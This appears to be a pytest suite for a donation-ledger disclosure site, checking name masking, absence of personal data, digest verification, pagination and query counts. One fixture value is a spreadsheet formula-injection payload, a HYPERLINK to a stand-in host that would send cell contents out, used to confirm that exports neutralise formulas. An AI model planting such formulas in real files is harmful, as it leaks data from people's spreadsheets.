"""Public disclosure pages, open data and receipt look-up: masked, paginated, verifiable
(items 6, 35, 36 and the query-count rule)."""

import csv
import datetime as dt
import io
import json
import re
import zipfile

import openpyxl
import pytest

from django.db import connection
from django.test.utils import CaptureQueriesContext

from home.ledger import canonical, services
from home.ledger.models import DisclosureRecord, LedgerEntry
from tests.home import ledger_support as files

pytestmark = pytest.mark.django_db

D1 = dt.date(2020, 2, 3)
D2 = dt.date(2020, 2, 4)
# Bounded by non-hex characters so that the SHA-256 digests on the pages do not match.
PII = re.compile(r"(?<![0-9a-fA-F])(1[3-9]\d{9}|\d{17}[\dXx])(?![0-9a-fA-F])")
FULL_NAMES = ("张三丰", "欧阳娜娜", "孙七")
INJECTION = '=HYPERLINK("http://x/?"&A2)'


@pytest.fixture
def site(db):
    return files.ledger_site()


def publish_day(day, leader):
    return files.approve(services.draft_disclosure(day), leader)


@pytest.fixture
def published(site, users):
    files.add_cash("XJ001", D1, "1000.00", name="张三丰")
    files.add_cash("XJ002", D1, "500.00", name="欧阳娜娜")
    files.add_cash("XJ003", D1, "200.00", name="孙七", anonymous=True)
    files.add_cash("XJ004", D1, "300.00", name=INJECTION, donor_type="organisation")
    files.add_goods("WZ001", D1, quantity=1000)
    files.add_allocation("BF001", D1, quantity=400)
    publish_day(D1, users["leadership"])
    return DisclosureRecord.objects.get()


def public_outputs(client):
    outputs = {}
    for url in (
        "/disclosures/",
        "/disclosures/2020-02-03/",
        "/disclosures/2020-02-03/v1/",
        "/disclosures/?receipt=XJ001",
        "/api/disclosures/",
        "/api/disclosures/2020-02-03.json",
        "/api/disclosures/2020-02-03.csv",
        "/api/receipts/XJ001/",
        "/api/v2/pages/?type=ledger.DisclosurePage&fields=*",
        "/api/v2/pages/?search=张三丰",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        outputs[url] = response.content.decode("utf-8-sig")
    xlsx = client.get("/api/disclosures/2020-02-03.xlsx").content
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx))
    outputs["xlsx"] = "\n".join(str(cell.value) for row in workbook.active.iter_rows() for cell in row)
    return outputs


def test_public_outputs_show_masked_names_and_no_personal_data(published, client):
    outputs = public_outputs(client)
    for where, text in outputs.items():
        assert not PII.search(text), where
        assert not [name for name in FULL_NAMES if name in text], where
    page = outputs["/disclosures/2020-02-03/"]
    assert "张**" in page and "欧阳**" in page and "爱心人士" in page
    assert "GB 19083-2010" in page
    data = json.loads(outputs["/api/disclosures/2020-02-03.json"])
    donors = {record["number"]: record["donor"] for record in data["records"]}
    assert donors["XJ001"] == "张**" and donors["XJ002"] == "欧阳**" and donors["XJ003"] == "爱心人士"
    assert all("phone" not in record and "id_number" not in record for record in data["records"])


def test_disclosure_rows_show_the_date_only(published, client):
    html = client.get("/disclosures/2020-02-03/").content.decode()
    row = re.search(r'<tr id="r-XJ001">(.*?)</tr>', html, re.S).group(1)
    assert "2020-02-03" in row
    assert not re.search(r"\d{1,2}:\d{2}", row)


def test_anyone_can_recompute_the_digest_from_the_open_data(published, client):
    data = json.loads(client.get("/api/disclosures/2020-02-03.json").content)
    lines = [canonical.line(row) for row in data["canonical_rows"]]
    corrections = [canonical.line(row) for row in data["canonical_corrections"]]
    recomputed = canonical.digest(
        dt.date.fromisoformat(data["date"]),
        data["version"],
        data["previous_digest"],
        lines,
        corrections,
        data["totals"],
    )
    assert recomputed == data["digest"] == published.digest
    listing = json.loads(client.get("/api/disclosures/").content)
    assert listing["days"][0]["digest"] == published.digest
    assert listing["chain"][0]["previous_digest"] == "0" * 64


def test_unpublished_days_and_receipts_are_not_public(site, users, client):
    files.add_cash("XJ001", D1)
    assert client.get("/api/disclosures/2020-02-03.json").status_code == 404
    assert client.get("/api/receipts/XJ001/").status_code == 404
    services.draft_disclosure(D1)
    assert client.get("/disclosures/2020-02-03/").status_code == 404
    html = client.get("/disclosures/?receipt=XJ001").content.decode()
    assert "未找到已公示的该收据" in html
    publish_day(D1, users["leadership"])
    receipt = json.loads(client.get("/api/receipts/xj001/").content)
    assert receipt["disclosure"] == "/disclosures/2020-02-03/"
    assert receipt["donor"] == "张**"
    assert "查看当日公示" in client.get("/disclosures/?receipt=XJ001").content.decode()


def test_downloads_neutralise_formulas_and_keep_numbers_numeric(published, client):
    xlsx = client.get("/api/disclosures/2020-02-03.xlsx")
    assert xlsx["Content-Disposition"].startswith("attachment")
    sheet_xml = zipfile.ZipFile(io.BytesIO(xlsx.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert rows["XJ004"][3].value == INJECTION and rows["XJ004"][3].data_type == "s"
    assert rows["XJ004"][4].data_type == "n" and rows["XJ004"][4].value == 300
    text = client.get("/api/disclosures/2020-02-03.csv").content.decode("utf-8-sig")
    parsed = {row[0]: row for row in csv.reader(io.StringIO(text))}
    assert parsed["XJ004"][3] == "'" + INJECTION
    assert parsed["XJ004"][4] == "300.00"


def test_the_index_lists_days_with_totals_chain_and_chart(published, users, client):
    files.add_cash("XJ010", D2, "20.00")
    publish_day(D2, users["leadership"])
    html = client.get("/disclosures/").content.decode()
    assert "2020-02-03" in html and "2020-02-04" in html
    assert "<svg" in html and "<polyline" in html
    assert DisclosureRecord.objects.get(disclosure_date=D2).digest[:12] in html


def _many(count, start, day):
    from home.ledger.models import Donor

    donors = Donor.objects.bulk_create([Donor(name=f"王{i}", donor_type="individual") for i in range(count)])
    LedgerEntry.objects.bulk_create(
        [
            LedgerEntry(number=f"XJ{start + i:06d}", kind="cash", entry_date=day, amount=10, donor=donor)
            for i, donor in enumerate(donors)
        ]
    )


def test_query_count_does_not_depend_on_the_number_of_records(site, users, client):
    _many(20, 1, D1)
    publish_day(D1, users["leadership"])
    _many(700, 1000, D2)
    publish_day(D2, users["leadership"])
    counts = []
    for day in ("2020-02-03", "2020-02-04"):
        with CaptureQueriesContext(connection) as queries:
            assert client.get(f"/disclosures/{day}/").status_code == 200
        counts.append(len(queries))
    assert counts[0] == counts[1]
    with CaptureQueriesContext(connection) as queries:
        client.get("/api/disclosures/2020-02-04.json")
    assert len(queries) < 15


def test_tables_are_keyset_paginated_under_a_thousand_rows(site, users, client):
    _many(250, 1, D1)
    publish_day(D1, users["leadership"])
    html = client.get("/disclosures/2020-02-03/").content.decode()
    assert html.count('<tr id="r-') == 200
    next_link = re.search(r'href="\?cash_after=([^"]+)"', html).group(1)
    assert next_link == "XJ000200"
    rest = client.get(f"/disclosures/2020-02-03/?cash_after={next_link}").content.decode()
    assert rest.count('<tr id="r-') == 50
    assert "XJ000250" in rest and "XJ000200" not in re.findall(r'id="r-([^"]+)"', rest)


def test_personal_data_does_not_reach_side_stores(site, users, caplog, django_capture_on_commit_callbacks):
    import logging

    caplog.set_level(logging.DEBUG)
    data = files.ledger_workbook(cash=[files.cash_row("XJ001"), files.cash_row("XJ002", name="赵六")])
    with django_capture_on_commit_callbacks(execute=True):
        services.import_ledger_file(
            files.as_file(data), "ledger.xlsx", user=users["communications"], run_async=True
        )
    from home.ledger.models import ImportBatch
    from home.ledger.tasks import import_batch

    import_batch(ImportBatch.objects.get().pk)
    publish_day(D1, users["leadership"])
    tables = [
        "wagtailcore_revision",
        "wagtailcore_modellogentry",
        "wagtailcore_pagelogentry",
        "django_q_task",
        "django_q_ormq",
        "wagtailsearch_indexentry",
        "ledger_importbatch",
        "ledger_disclosurerecord",
    ]
    dumped = []
    with connection.cursor() as cursor:
        existing = set(connection.introspection.table_names(cursor))
        for table in tables:
            if table in existing:
                cursor.execute(f"SELECT * FROM {table}")  # noqa: S608 - fixed table names
                dumped.append(repr(cursor.fetchall()))
    everything = "\n".join(dumped) + caplog.text
    assert files.FIXTURE_PHONE not in everything
    assert files.FIXTURE_ID not in everything
    assert "ledger.xlsx" in everything  # the dump did read the batch table


def test_a_leaders_preview_of_a_disclosure_shows_no_personal_data(published, users, client):
    from wagtail.test.utils.form_data import inline_formset, nested_form_data

    page = published.page.specific
    client.force_login(users["leadership"])
    url = f"/admin/pages/{page.pk}/edit/preview/"
    data = nested_form_data(
        {
            "title": page.title,
            "slug": page.slug,
            "disclosure_date": page.disclosure_date.isoformat(),
            # A crafted note: personal data typed by an editor is not what this scan is about.
            "correction_note": "预览",
            "comments": inline_formset([]),
            "seo_title": "",
            "search_description": "",
            "go_live_at": "",
            "expire_at": "",
        }
    )
    posted = client.post(url, data)
    assert posted.status_code == 200
    assert posted.json()["is_valid"] is True
    rendered = client.get(url)
    assert rendered.status_code == 200
    for response in (posted, rendered):
        text = response.content.decode()
        assert not PII.search(text)
        assert not [name for name in FULL_NAMES if name in text]
    html = rendered.content.decode()
    assert "张**" in html and "欧阳**" in html and "爱心人士" in html
